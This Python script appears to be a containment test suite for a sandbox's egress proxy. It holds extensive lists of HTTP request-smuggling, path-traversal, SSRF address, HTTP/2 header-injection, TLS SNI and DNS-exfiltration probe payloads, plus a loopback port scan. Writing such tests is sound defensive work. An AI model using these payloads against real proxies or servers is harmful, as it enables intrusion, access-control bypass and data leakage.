#!/usr/bin/env python3
"""Further probes, of the same kind and with the same words as probe.py: exit 0 = contained, 1 = escaped, 2 = not applicable.
usage: more.py NAME [args], INSIDE the sandbox under test."""
import array, base64, mmap, re, select, threading
from probe import *

MINE = {}
def q(f): MINE[f.__name__.replace('_', '-')] = f; return f
def ask(pay, seconds=T):
    "raw bytes to the explicit proxy on a connection of its own; what came back until it was quiet"
    s = socket.socket(); s.settimeout(seconds)
    try: s.connect(PROXY)
    except OSError as e: out('n/a', f'no explicit proxy: {en(e)}')
    try: s.sendall(pay)
    except OSError: pass
    b = b''
    try:
        while len(b) < 65536:
            d = s.recv(4096)
            if not d: break
            b += d
    except OSError: pass
    s.close(); return b
def strayed(b, bad=()):
    "lines of the sinks that no permitted request brings about"
    for l in b.split(b'\n'):
        if b'SINK-OK' not in l: continue
        h = re.search(rb'host=(\S*)', l); p_ = re.search(rb'path=(\S*)', l)
        if h is None or p_ is None: return l[:160]
        if h.group(1).lower().split(b':')[0] != ALLOWED.encode() or not p_.group(1).startswith(b'/public'): return l[:160]
        if any(x in l for x in bad): return l[:160]
    return None
def each(pays, bad=(), seconds=1.0):
    "each of these, on a connection of its own"
    hits = []
    for name, pay in pays:
        r = strayed(ask(pay, seconds), bad)
        if r: hits.append(f'{name!r}: {r!r}')
    out('escaped', hits) if hits else out('contained', f'{len(pays)} tries')
def get(target, extra='', host=None, version='1.1', method='GET', body=b''):
    return f'{method} {target} HTTP/{version}\r\nHost: {host or ALLOWED}\r\n{extra}Connection: close\r\n\r\n'.encode() + body
SECRET = f'GET /secret HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: close\r\n\r\n'.encode()
OPEN = f'http://{ALLOWED}/public/a'

# ---- what the explicit proxy is asked for ---------------------------------------------------
@q
def connect_forms():
    "every odd authority is refused, or leads to nowhere else"
    A, D = ALLOWED, DENIED
    forms = [f'user@{D}:80', f'{A}:80@{D}:80', f'{D}:80@{A}:80', f'http://{D}:80', f'//{D}:80', f'{A}:80/../{D}:80', f'{D}:80/', f'{D}:80?{A}:80', f'{D}:80#{A}:80', f'{A}:80,{D}:80', f'{A}:80 {D}:80', f'{D}%3a80:80', f'{D}:00080', f'{D}:+80', f'{D}:80:80', f'{D}:65616', f'{D}:0x50', f'{D}', f':80', f'{D}:', f'[{A}]:80', f'{A}\x00.{D}:80', f'{D}\\.{A}:80', f'{A}.:8080', f'{A}:0', f'{A}:8080', f'{A}:22', f'{A}:5432', f'{D.encode().hex()}:80', f'_.{A}:80', f'*.{A}:80', f'*:80', f'{A}..:80', f'.{A}:80', f'-{A}:80', f'{"a" * 64}.{A}:80', f'{"a." * 130}{A}:80']
    hits = []
    for f in forms:
        s = socket.socket(); s.settimeout(1.0)
        try:
            s.connect(PROXY); s.sendall(b'CONNECT ' + f.encode('latin1') + b' HTTP/1.1\r\nHost: ' + f'{A}:80'.encode() + b'\r\n\r\n'); b = s.recv(300)
            if b' 200' in b[:16]:
                s.sendall(get('/secret', host=D)); r = strayed(rx(s))
                if r: hits.append(f'{f!r}: {r!r}')
        except OSError: pass
        s.close()
    out('escaped', hits) if hits else out('contained', f'{len(forms)} forms')
@q
def absolute_forms():
    "absolute form to another port, with user information, another scheme, another host header"
    A, D = ALLOWED, DENIED
    ts = [f'http://{A}:8080/public/a', f'http://{A}:22/public/a', f'http://{D}@{A}/secret', f'http://{A}@{D}/public/a', f'http://{A}:80@{D}/public/a', f'http://{D}\\@{A}/public/a', f'http://{A}#@{D}/public/a', f'http://{A}?@{D}/public/a', f'http://{D}%2f@{A}/secret', f'http:/{D}/public/a', f'http:{D}/public/a', f'http:///{D}/public/a', f'http:\\\\{D}\\public', f'//{D}/public/a', f'HTTP://{D}/public/a', f'ws://{D}/public/a', f'ftp://{D}/public/a', f'file:///etc/passwd', f'gopher://{D}:80/_GET', f'https://{D}/public/a', f'unix:/run/x', f'http://{A}:80:8080/public/a', f'http://{A}:/secret', f'{D}:80', f'http://[{A}]/public/a', f'http://{A}%00.{D}/public/a', f'http://{A}%2e{D}/public/a', f'http://xn--{A}/public/a', f'http://{A.replace("l", chr(0xff4c))}/public/a']
    pays = [(t, get(t)) for t in ts] + [('host ' + h, get(OPEN, host=h)) for h in (D, f'{D}:80', f'{A}:8080', f'{A}, {D}', f'{A}@{D}', f'{D}#', '')]
    each(pays)
@q
def address_forms():
    "more spellings of addresses that no policy opens: zones, mapped and translated addresses, parts in other bases"
    ips = ['[fe80::1%25lo]', '[fe80::1%lo]', '[::1%25lo]', '[::ffff:0:127.0.0.1]', '[::127.0.0.1]', '[0:0:0:0:0:ffff:7f00:1]', '[0000::1]', '[::ffff:a9fe:a9fe]', '[64:ff9b::7f00:1]', '[64:ff9b:1::7f00:1]', '[2002:7f00:1::]', '[2001:0:7f00:1::]', '[fec0::1]', '[ff02::1]', '0x7f.0.0.1', '0x7f.1', '0177.1', '127.0.0.01', '127.000.000.001', '00000177.0.0.1', '127.0.0.1.', '127.0.0.1..', '127.1.', '127。0。0。1', '①②⑦.0.0.1', '%31%32%37.0.0.1', '4294967295', '4294967297', '0x100000001', '3325171722', '0xC612000A', '0306.022.0.012', '198.18.10', '198.1179658', '[::ffff:198.18.0.10]', '[::ffff:c612:a]', 'localhost6', 'ip6-localhost', 'localhost.localdomain', 'foo.localhost', '127.0.0.1.nip.io', '169.254.169.254.', '[fd00:ec2::254%25lo]', '[]', '[::', '::1', '192.0.2.1', '0.0.0.0.', '00', '0x0']
    hits = []
    for i in ips:
        for pay in (f'CONNECT {i}:80 HTTP/1.1\r\nHost: {i}:80\r\n\r\n', f'GET http://{i}/latest/ HTTP/1.1\r\nHost: {i}\r\nConnection: close\r\n\r\n'):
            s = socket.socket(); s.settimeout(1.0)
            try: s.connect(PROXY); s.sendall(pay.encode()); b = s.recv(300)
            except OSError: b = b''
            s.close()
            if b' 200' in b[:16] or b'SINK-OK' in b: hits.append(i + ' ' + pay.split()[0])
    out('escaped', hits) if hits else out('contained', f'{len(ips)} addresses x 2')
@q
def paths_again():
    "more spellings of a path below which nothing is permitted"
    fs = ['/public/%2E%2E/secret', '/public/.%2e/secret', '/public/%2e./secret', '/public/..%2Fsecret', '/public/..%5Csecret', '/public/..\\secret', '/public/a/../../secret', '/public/..%00/secret', '/public/..%09/secret', '/public/..%20/secret', '/public/%252e%252e%252fsecret', '/public/..%u2215secret', '/public/..%ef%bc%8fsecret', '/public/%c0%ae%c0%ae/secret', '/public/%e0%80%ae%e0%80%ae/secret', '/public/../public/../secret', '/public/%2e%2e;/secret', '/public//../../secret', '/public/..//secret', '/public%00/../secret', '/publi%63/%2e%2e/secret', '/secret/../public/../secret', '/%2e/secret', '/%70ublic/%2e%2e/secret', '/secret%3f/public/a', '/secret%23/public/a', '/public/a?/../../secret', '/public;/../secret', '/public/..?x', '/public/../', '/public/..', '/public../secret', '/publicsecret', '/public', 'public/a', '/../public/a/../../secret', '/public/%', '/public/%2', '/public/%zz/../../secret', '/public/\x7f']
    hits = []
    from urllib.parse import unquote
    import posixpath
    for f in fs:
        b = ask(get(f'http://{ALLOWED}{f}'), 1.0)
        m = re.search(rb'SINK-OK .*?path=(\S*)', b)
        if not m: continue
        d = m.group(1).decode('latin1').split('?')[0]
        for _ in range(3): d = unquote(d, 'latin1')
        d = posixpath.normpath('/' + '/'.join(x.split(';')[0] for x in d.replace('\\', '/').split('/')).lstrip('/'))
        if not (d + '/').startswith('/public/'): hits.append(f'{f} -> {d}')
    out('escaped', hits) if hits else out('contained', f'{len(fs)} paths')
@q
def methods():
    "every method but the permitted one, in every disguise"
    ms = ['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'HEAD', 'PROPFIND', 'get', 'Get', 'GEt', 'post', 'GET\t', ' GET', 'GET\x0b', 'GET\x00', 'G\x00ET', 'POST\rGET', '\r\nPOST', '\nGET', 'GET,POST', 'GETT', 'CONNECT', 'PRI', 'DEBUG', 'TRACK', 'M-SEARCH', '*']
    each([(m, get(OPEN, method=m)) for m in ms], bad=[b'method=' + m.encode() + b' ' for m in ms])
@q
def overrides():
    "headers by which frameworks take another method or another path than the request line has"
    hs = [('X-HTTP-Method-Override', 'DELETE'), ('x-http-method-override', 'DELETE'), ('X-HTTP-Method', 'DELETE'), ('X-Method-Override', 'DELETE'), ('X_HTTP_Method_Override', 'DELETE'), ('X-Original-URL', '/secret'), ('X-Rewrite-URL', '/secret'), ('X-Override-URL', '/secret'), ('X-Original-URI', '/secret'), ('X-Forwarded-Host', DENIED), ('X-Forwarded-Path', '/secret'), ('Forwarded', f'host={DENIED}'), ('X-Host', DENIED), ('X-HTTP-Host-Override', DENIED), ('Content_Length', '7'), ('Transfer_Encoding', 'chunked'), ('X-Real-IP', '127.0.0.1'), ('X_Sandbox_Id', 'other')]
    hits = []
    for n, v in hs:
        b = ask(get(f'http://{ALLOWED}/public/echo', f'{n}: {v}\r\n'), 1.0)
        l = next((x for x in b.split(b'\n') if b'SINK-OK' in x), b'').lower()
        if f' {n.lower()}={v.lower()}'.encode() in l: hits.append(n)
    out('escaped', hits) if hits else out('contained', f'{len(hs)} headers')
@q
def hop_by_hop():
    "headers that the connection header names must not take away what the request was judged by"
    pays = [(c, f'GET {OPEN} HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: {c}\r\nProxy-Connection: keep-alive\r\n\r\n'.encode() + SECRET) for c in ('Host', 'close, Host', 'keep-alive, Host', 'Content-Length', 'Transfer-Encoding', 'X, host ,', 'upgrade, host')]
    each(pays)
@q
def proxy_connection():
    "Proxy-Connection and Keep-Alive of old clients: the second request is judged like the first"
    hs = ['Proxy-Connection: keep-alive\r\n', 'Proxy-Connection: close\r\nConnection: keep-alive\r\n', 'Keep-Alive: timeout=5, max=100\r\n', 'Connection: keep-alive\r\nConnection: keep-alive\r\n', 'Connection: Keep-Alive\r\n']
    pays = [(h + v, f'GET {OPEN} HTTP/{v}\r\nHost: {ALLOWED}\r\n{h}\r\n'.encode() + x) for h in hs for v in ('1.0', '1.1') for x in (SECRET, get(f'http://{DENIED}/public/a', host=DENIED), f'CONNECT {DENIED}:80 HTTP/1.1\r\nHost: {DENIED}:80\r\n\r\n'.encode() + get('/public/a', host=DENIED))]
    each(pays)
@q
def connect_in_tunnel():
    "within a tunnel: another CONNECT, absolute form, another host"
    D = DENIED; hits = []
    for x in (f'CONNECT {D}:80 HTTP/1.1\r\nHost: {D}:80\r\n\r\n'.encode(), get(f'http://{D}/public/a', host=D), get(f'http://{D}/public/a'), get('/public/a', host=D), get('/public/a', host=f'{ALLOWED}:22'), get(f'https://{ALLOWED}/secret'), b'\r\n' + SECRET, b'\r\n\r\n' + get('/public/a', host=D), b'\x00' + SECRET, f'GET /secret\r\n'.encode(), b'QUIT\r\n'):
        s = socket.socket(); s.settimeout(1.5)
        try:
            s.connect(PROXY); s.sendall(f'CONNECT {ALLOWED}:80 HTTP/1.1\r\nHost: {ALLOWED}:80\r\n\r\n'.encode()); b = s.recv(300)
            if b' 200' not in b[:16]: continue
            s.sendall(x + get('/public/b', host=D)); b = b''
            while True:
                d = s.recv(4096)
                if not d: break
                b += d
        except OSError: pass
        s.close(); r = strayed(b)
        if r: hits.append(f'{x[:40]!r}: {r!r}')
    out('escaped', hits) if hits else out('contained')
@q
def connect_with_body():
    "a CONNECT that gives its body a length, and one whose head says HTTP/1.0 or ends oddly"
    A = f'CONNECT {ALLOWED}:80 HTTP/'
    each([(h, (A + h).encode() + SECRET) for h in ('1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n', '1.1\r\nHost: a\r\nContent-Length: 90\r\n\r\n', '1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n', '1.0\r\n\r\n', '1.1\n\n', '1.1\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\n', '2.0\r\n\r\n', '0.9\r\n\r\n')])
@q
def early_bytes():
    "bytes that follow a CONNECT or a request before it is answered are judged like later ones"
    each([('tunnel', f'CONNECT {ALLOWED}:80 HTTP/1.1\r\nHost: {ALLOWED}:80\r\n\r\n'.encode() + SECRET), ('denied then permitted', get(f'http://{ALLOWED}/secret').replace(b'Connection: close\r\n', b'') + SECRET), ('two and a tunnel', get(OPEN).replace(b'Connection: close\r\n', b'') * 2 + SECRET)])
# ---- smuggling, behind the permitted method -------------------------------------------------
def embed(header, body): return f'GET {OPEN} HTTP/1.1\r\nHost: {ALLOWED}\r\n{header}\r\n\r\n'.encode('latin1') + body
@q
def get_cl():
    "lengths that two servers read in two ways"
    n = len(SECRET)
    hs = [f'Content-Length: {n}\r\nContent-Length: 0', f'Content-Length: 0\r\nContent-Length: {n}', f'Content-Length: 0, {n}', f'Content-Length: {n}, {n}', 'Content-Length: +0', 'Content-Length: -0', f'Content-Length: 0x{n:x}', 'Content-Length: 0 ', 'Content-Length:\x0b0', 'Content-Length : 0', 'Content_Length: 0', 'Content-Length: 00', 'Content-Length: 0;x', 'Content-Length: 1e0', 'Content-Length:', 'Content-Length: 18446744073709551616', f'Content-Length: 9\r\n\tContent-Length: 0', 'Content-Length\x00: 0', '\x00Content-Length: 0', f'X: y\rContent-Length: {n}', f'X: y\nContent-Length: {n}', 'Content-Length: 0\r\nX', ': Content-Length: 0', 'Content-Length: \xb2']
    each([(h, embed(h, SECRET)) for h in hs])
@q
def get_te():
    "encodings that two servers read in two ways"
    n = len(SECRET) + 5
    tes = ['xchunked', 'chunked ', ' chunked', '\tchunked', '\x0bchunked', '"chunked"', 'chunked;q=1', 'chunked, identity', 'identity, chunked', 'gzip, chunked', 'chunked, chunked', 'CHUNKED', 'chun\u00a0ked', 'chunked\x00', ',chunked', 'chunked,', 'identity', '', 'cow']
    hs = [f'Transfer-Encoding: {t}' for t in tes] + ['Transfer-Encoding : chunked', 'Transfer_Encoding: chunked', 'Transfer-Encoding:chunked\r\nTransfer-Encoding: identity', 'transfer-encoding: chunked\r\nTransfer-Encoding: chunked', 'X: y\rTransfer-Encoding: chunked', 'X: y\nTransfer-Encoding: chunked', 'Transfer-Encoding\r\n : chunked', ' Transfer-Encoding: chunked', 'TE: chunked\r\nTransfer-Encoding: chunked']
    each([(h + c, embed(h + c, b'0\r\n\r\n' + SECRET)) for h in hs for c in ('', f'\r\nContent-Length: {n}')])
@q
def chunk_sizes():
    "sizes and ends of chunks that two servers read in two ways"
    n = len(SECRET); H = 'Transfer-Encoding: chunked'
    bodies = [b'0x0\r\n\r\n', b'+0\r\n\r\n', b'-0\r\n\r\n', b' 0\r\n\r\n', b'0 \r\n\r\n', b'0\t\r\n\r\n', b'0;\r\n\r\n', b'0;a="\r\n\r\n"\r\n\r\n', b'0;a\n\r\n\r\n', b'0\n\n', b'0\r\r\n\r\n', b'0\r\n\n', b'00000000000000000000\r\n\r\n', b'10000000000000000\r\n\r\n', b'1\r\nAX0\r\n\r\n', b'1\r\nA0\r\n\r\n', b'1\r\nA\n0\r\n\r\n', b'1\nA\r\n0\r\n\r\n', b'\r\n0\r\n\r\n', b'g\r\n\r\n', b'\r\n\r\n', b'0_0\r\n\r\n', b'0.0\r\n\r\n', b'0,0\r\n\r\n', b'00\x00\r\n\r\n', b'2\r\n\r\n\r\n0\r\n\r\n']
    each([(repr(b), embed(H, b + SECRET)) for b in bodies])
@q
def trailers():
    "what follows the last chunk is no request and no header"
    n = len(SECRET); H = 'Transfer-Encoding: chunked\r\nTrailer: Host, Content-Length'
    ts = [f'Host: {DENIED}', f'Content-Length: {n}', 'Transfer-Encoding: chunked', f'GET /secret HTTP/1.1\r\nHost: {ALLOWED}', 'X-HTTP-Method-Override: DELETE', 'X: y\nZ: w', ' folded', ': x', 'X\r\n\r\n']
    each([(t, embed(H, f'0\r\n{t}\r\n\r\n'.encode() + SECRET)) for t in ts], bad=[b'override=DELETE'])
@q
def expect_continue():
    "a body that waits for 100 belongs to its request"
    each([(e, embed(f'Expect: {e}\r\nContent-Length: {n}', SECRET)) for e in ('100-continue', '100-Continue', 'y 100-continue', '200-ok') for n in (0, len(SECRET), 4)])
@q
def websocket_smuggle():
    "an upgrade that the server does not take leaves requests that are judged"
    k = 'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='
    hs = [f'Connection: Upgrade\r\nUpgrade: websocket\r\n{k}', f'Connection: Upgrade\r\nUpgrade: WebSocket\r\n{k.replace("13", "777")}', f'Connection: Upgrade\r\nUpgrade: websocket, h2c\r\n{k}', f'Connection: Upgrade\r\nUpgrade: h2c\r\nUpgrade: websocket\r\n{k}', 'Connection: Upgrade\r\nUpgrade: websocket', 'Connection: keep-alive, Upgrade\r\nUpgrade: TLS/1.0', 'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__', 'Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__']
    each([(h, embed(h, SECRET)) for h in hs], bad=[b'upgrade=h2c', b'upgrade=TLS'])
# ---- HTTP/2 ---------------------------------------------------------------------------------
def lit(name, value):
    "a header field without indexing (RFC 7541, section 6.2.2)"
    b = b'\0'
    for x in (name, value):
        x = x if isinstance(x, bytes) else x.encode('latin1'); n = len(x)
        b += (bytes([n]) if n < 127 else b'\x7f' + bytes([(n - 127) & 127 | 128, (n - 127) >> 7])) + x
    return b
def frame(kind, flags, stream, load): return struct.pack('>I', len(load))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + load
def h2(fields, data=None, more=b''):
    "one request over HTTP/2 in a permitted tunnel; everything that came back"
    s = socket.socket(); s.settimeout(2.0)
    try:
        s.connect(PROXY); s.sendall(f'CONNECT {ALLOWED}:443 HTTP/1.1\r\nHost: {ALLOWED}:443\r\n\r\n'.encode())
        if b' 200' not in s.recv(300)[:16]: return b''
        c = ssl._create_unverified_context(); c.set_alpn_protocols(['h2']); t = c.wrap_socket(s, server_hostname=ALLOWED)
        if t.selected_alpn_protocol() != 'h2': return b''
        end = 4 if data is not None else 5
        t.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0, b'') + frame(1, end, 1, b''.join(lit(n, v) for n, v in fields)) + (frame(0, 1, 1, data) if data is not None else b'') + more)
        b = b''; t.settimeout(1.2)
        while len(b) < 65536:
            d = t.recv(4096)
            if not d: break
            b += d
            if finished(b, 3 if more else 1): break
    except (OSError, ssl.SSLError): pass
    finally: s.close()
    return b
def finished(b, streams):
    "whether the last stream has ended, or the connection"
    i = 0
    while len(b) >= i + 9:
        n, kind, flags, on = int.from_bytes(b[i:i + 3], 'big'), b[i + 3], b[i + 4], struct.unpack_from('>I', b, i + 5)[0]
        if len(b) >= i + 9 + n and (kind == 7 or (on == streams and (kind == 3 or (kind in (0, 1) and flags & 1)))): return True
        i += 9 + n
    return False
def base(**k):
    f = {':method': 'GET', ':scheme': 'https', ':authority': ALLOWED, ':path': '/public/a'}; f.update({a.replace('_', ':', 1) if a[0] == '_' else a: v for a, v in k.items()}); return [(a, v) for a, v in f.items() if v is not None]
@q
def h2_works():
    "positive control of the next ones: the permitted request over HTTP/2"
    b = h2(base()); print(b[:300]); sys.exit(0 if b'SINK-OK' in b else 1)
@q
def h2_pseudo():
    "pseudo-headers that disagree, or hold what no HTTP/1 request line holds"
    D, A = DENIED, ALLOWED
    tries = [base(_authority=D), base(_authority=D, host=A), base(host=D), base(_authority=None, host=D), base(_authority=None), base(_authority=f'{A}:22'), base(_authority=f'{A}@{D}'), base(_authority=f'{A} {D}'), base(_authority=f'{A}\r\nHost: {D}'), base(_path='/secret'), base(_path='/public/../secret'), base(_path='/public/%2e%2e/secret'), base(_path='/public/..%2fsecret'), base(_path=f'https://{D}/public/a'), base(_path=f'//{D}/secret'), base(_path='/public/a HTTP/1.1\r\nHost: x\r\n\r\nGET /secret HTTP/1.1\r\nX: '), base(_path='/public/a\r\nX-HTTP-Method-Override: DELETE'), base(_path='/secret?\x00'), base(_path=''), base(_path='*'), base(_path='public/a/../../secret'), base(_method='POST'), base(_method='get'), base(_method='GET /secret HTTP/1.1\r\nX:'), base(_method='CONNECT'), base(_method='CONNECT', _protocol='websocket'), base(_scheme='http'), base(_scheme=f'https://{D}/?'), base(_scheme='file'), base() + [(':path', '/secret')], base() + [(':authority', D)], base() + [(':method', 'DELETE')], [('x', 'y')] + base(_path='/secret'), base() + [(':x', 'y')], base() + [('host', A), ('host', D)]]
    hits = [f'{dict(f)}: {r!r}' for f in tries for r in [strayed(h2(f), [b'override=DELETE', b'method=get', b'method=POST', b'method=CONNECT'])] if r]
    out('escaped', hits) if hits else out('contained', f'{len(tries)} heads')
@q
def h2_headers():
    "fields that become something else in HTTP/1: line ends, colons, lengths, connection words"
    X = [('x', 'a\r\nX-HTTP-Method-Override: DELETE'), ('x', 'a\r\n\r\nGET /secret HTTP/1.1\r\nHost: a\r\n\r\n'), ('x', 'a\nTransfer-Encoding: chunked'), ('x', 'a\rb'), ('x', 'a\x00b'), ('x: y\r\nx-http-method-override', 'DELETE'), ('x y', 'z'), ('X-HTTP-Method-Override', 'DELETE'), ('', 'x'), ('transfer-encoding', 'chunked'), ('connection', 'upgrade'), ('upgrade', 'h2c'), ('proxy-connection', 'keep-alive'), ('te', 'chunked'), ('content-length', '0'), ('content-length', '5'), ('content-length', '5, 6'), ('content-length', 'x'), ('x-http-method-override', 'DELETE'), ('proxy-authorization', 'Basic YTpi')]
    hits = []
    for n, v in X:
        for data in (None, SECRET, b'0\r\n\r\n' + SECRET):
            r = strayed(h2(base() + [(n, v)], data), [b'override=DELETE', b'upgrade=h2c'])
            if r: hits.append(f'{n!r}={v!r}: {r!r}')
    out('escaped', hits) if hits else out('contained', f'{len(X)} x 3')
@q
def h2_streams():
    "each stream of a connection is judged, and frames out of turn bring nothing through"
    two = frame(1, 5, 3, b''.join(lit(n, v) for n, v in base(_path='/secret')))
    cont = frame(1, 1, 3, b''.join(lit(n, v) for n, v in base()[:3])) + frame(9, 4, 3, lit(':path', '/secret'))
    late = frame(1, 5, 1, lit(':path', '/secret'))
    push = frame(5, 4, 1, struct.pack('>I', 2) + b''.join(lit(n, v) for n, v in base(_path='/secret')))
    hits = [n for n, m in (('second stream', two), ('continuation', cont), ('same stream again', late), ('push', push), ('raw', SECRET)) if strayed(h2(base(), None, m))]
    out('escaped', hits) if hits else out('contained')
# ---- TLS --------------------------------------------------------------------------------------
def hello(sni=None):
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO(); t = ssl._create_unverified_context().wrap_bio(i, o, server_hostname=sni)
    try: t.do_handshake()
    except ssl.SSLWantReadError: pass
    return o.read()
def extended(record, kind, load):
    "a ClientHello with one more extension"
    h = bytearray(record); p_ = 5 + 4 + 2 + 32; p_ += 1 + h[p_]; p_ += 2 + struct.unpack_from('>H', h, p_)[0]; p_ += 1 + h[p_]
    e = struct.pack('>HH', kind, len(load)) + load; h += e
    struct.pack_into('>H', h, p_, struct.unpack_from('>H', h, p_)[0] + len(e)); struct.pack_into('>H', h, 3, len(h) - 5); h[6:9] = struct.pack('>I', len(h) - 9)[1:]
    return bytes(h)
def greeted(target, records, direct=False):
    "whether somebody answers this ClientHello with a handshake"
    s = socket.socket(); s.settimeout(2.0)
    try:
        if direct: s.connect(target)
        else:
            s.connect(PROXY); s.sendall(f'CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n'.encode())
            if b' 200' not in s.recv(300)[:16]: return False
        for r in records: s.sendall(r); time.sleep(0.005)
        return s.recv(10)[:1] == b'\x16'
    except OSError: return False
    finally: s.close()
def fragments(record, size):
    body = record[5:]; return [record[:3] + struct.pack('>H', len(body[i:i + size])) + body[i:i + size] for i in range(0, len(body), size)]
@q
def hello_fragments():
    "a ClientHello in several records: the name in it counts all the same"
    hits = [n for n in (1, 7, 40, 100) if greeted(f'{ALLOWED}:443', fragments(hello(DENIED), n))]
    out('escaped', hits) if hits else out('contained')
@q
def hello_names():
    "names in a ClientHello that are not the one of the tunnel"
    D, A = DENIED, ALLOWED; hits = []
    h = hello('a' * len(f'{A}!{D}'))
    for n in (f'{A}\x00{D}', f'{D}\x00{A}', f'{A}/{D}', f'{A} {D}', f'{D}.{A}'[:len(A) + len(D) + 1], f'{A}\n{D}'):
        if len(n) == len(A) + len(D) + 1 and greeted(f'{A}:443', [h.replace(b'a' * len(n), n.encode())]): hits.append(n)
    for n in (D.upper(), D + '.', 'x' + A, 'a.' + A, A + '.' + D, 'localhost'):
        try: r = hello(n)
        except ValueError: continue
        if greeted(f'{A}:443', [r]): hits.append(n)
    out('escaped', hits) if hits else out('contained')
@q
def hello_two_names():
    "a ClientHello with two names, or two lists of them"
    r = hello(ALLOWED); n = DENIED.encode(); load = struct.pack('>HBH', len(n) + 3, 0, len(n)) + n
    both = (lambda x, y: struct.pack('>H', len(x) + len(y) + 6) + b'\0' + struct.pack('>H', len(x)) + x + b'\0' + struct.pack('>H', len(y)) + y)
    hits = [w for w, x in (('two lists', extended(r, 0, load)), ('one list', extended(hello(), 0, both(ALLOWED.encode(), n))), ('one list, turned', extended(hello(), 0, both(n, ALLOWED.encode()))), ('empty', extended(hello(), 0, b'\0\0')), ('cut', extended(hello(), 0, b'\0\xff\0\0\x05a'))) if greeted(f'{ALLOWED}:443', [x])]
    out('escaped', hits) if hits else out('contained')
@q
def ech_grease():
    "an encrypted ClientHello inside: the outer name is what counts, and a denied one stays denied"
    ech = b'\0\0\x01\0\x01\x07\0\x20' + os.urandom(32) + b'\0\x90' + os.urandom(144)
    hits = [w for w, t, d in (('tunnel', f'{ALLOWED}:443', False), ('direct', (LAB, 443), True)) if greeted(t, [extended(hello(DENIED), 0xfe0d, ech)], d)]
    out('escaped', hits) if hits else out('contained')
@q
def tls_odd():
    "old versions, other records first, a name only in the second hello"
    r = hello(DENIED); hits = []
    for w, rs in (('ssl2', [b'\x80\x2e\x01\x00\x02' + b'\0' * 41]), ('alert first', [b'\x15\x03\x01\0\x02\x01\0', r]), ('empty record', [b'\x16\x03\x01\0\0', r]), ('change cipher first', [b'\x14\x03\x03\0\x01\x01', r]), ('heartbeat', [b'\x18\x03\x02\0\x03\x01\x40\0', r]), ('huge record', [b'\x16\x03\x01\xff\xff' + r[5:]])):
        if greeted(f'{ALLOWED}:443', rs): hits.append(w)
    out('escaped', hits) if hits else out('contained')
@q
def tls_host():
    "inside TLS: every host but the one of the tunnel"
    hits = []
    for h in (DENIED, f'{ALLOWED}:22', f'{ALLOWED}@{DENIED}', f'{DENIED}\r\nHost: {ALLOWED}', LAB):
        s = socket.socket(); s.settimeout(T)
        try:
            s.connect(PROXY); s.sendall(f'CONNECT {ALLOWED}:443 HTTP/1.1\r\nHost: x\r\n\r\n'.encode())
            if b' 200' not in s.recv(300)[:16]: continue
            t = ssl._create_unverified_context().wrap_socket(s, server_hostname=ALLOWED); t.sendall(get('/public/a', host=h)); r = strayed(rx(t))
            if r: hits.append(f'{h!r}: {r!r}')
        except (OSError, ssl.SSLError): pass
        s.close()
    out('escaped', hits) if hits else out('contained')
# ---- names ------------------------------------------------------------------------------------
def query(pay, server='8.8.8.8', tcp_=False):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp_ else socket.SOCK_DGRAM); s.settimeout(1.5)
    try:
        s.connect((server, 53)); s.sendall(struct.pack('>H', len(pay)) + pay if tcp_ else pay); d = s.recv(4096); return d[2:] if tcp_ else d
    except OSError: return b''
    finally: s.close()
def answered(d): return len(d) > 11 and struct.unpack_from('>H', d, 6)[0] > 0
@q
def dns_forms():
    "over TCP, with EDNS, for every type, with long labels, several questions, odd classes, to every server"
    n, hits = f'{CANARY.lower()}.{DENIED}', []
    opt = b'\0\0\x29\x10\0\0\0\x80\0\0\x24\xfd\xe9\0\x20' + b'x' * 32
    edns = (lambda d: d[:10] + b'\0\x01' + d[12:] + opt)
    for typ in (1, 2, 5, 6, 12, 15, 16, 28, 33, 35, 41, 43, 46, 48, 64, 65, 249, 250, 251, 252, 255, 257):
        for srv in ('8.8.8.8', LAB, '127.0.0.1'):
            for t in (False, True):
                if answered(query(dnsq(n, typ), srv, t)) or (srv == LAB and answered(query(edns(dnsq(n, typ)), srv, t))): hits.append((typ, srv, t))
    long = '.'.join(os.urandom(31).hex()[:63] for _ in range(3))
    for z in (DENIED, ALLOWED):
        for t in (False, True):
            if answered(query(dnsq(f'{long}.{z}', 16), LAB, t)) or answered(query(dnsq(f'{long}.{z}', 1), LAB, t)): hits.append(('long', z, t))
    if answered(query(dnsq(n, 1)[:-2] + b'\0\x03', LAB)): hits.append('chaos')
    if answered(query(dnsq(ALLOWED, 16), LAB)): hits.append('text of the permitted name')
    out('escaped', hits) if hits else out('contained')
@q
def dns_rebind(times='8'):
    "a permitted name that answers another address each time: only the addresses that the policy lists are dialled"
    hits, ok = [], 0
    for _ in range(int(times)):
        b = ask(get('http://rebind.test/public/a', host='rebind.test'), 1.5); ok += b'SINK-OK' in b
        m = re.search(rb'at=(\S+)', b)
        if m and m.group(1).decode() != LAB: hits.append(m.group(1))
    out('escaped', hits) if hits else out('contained', f'{ok} of {times} answered')
@q
def loopback_ports():
    "nothing of ours listens on the loopback device but the proxy and the resolver"
    hits = []
    for port in range(1, 65536):
        if port in (53, 3128, 3129): continue
        s = socket.socket(); s.setblocking(False)
        try: s.connect(('127.0.0.1', port)); open_ = True
        except BlockingIOError: select.select([], [s], [], 0.2); open_ = s.getsockopt(1, 4) == 0
        except OSError: open_ = False
        # A socket that got the very port it asks for has reached itself, and nobody listens.
        if open_ and s.getsockname()[1] != port: hits.append(port)
        s.close()
    out('escaped', hits[:9]) if hits else out('contained')
# ---- who is calling ---------------------------------------------------------------------------
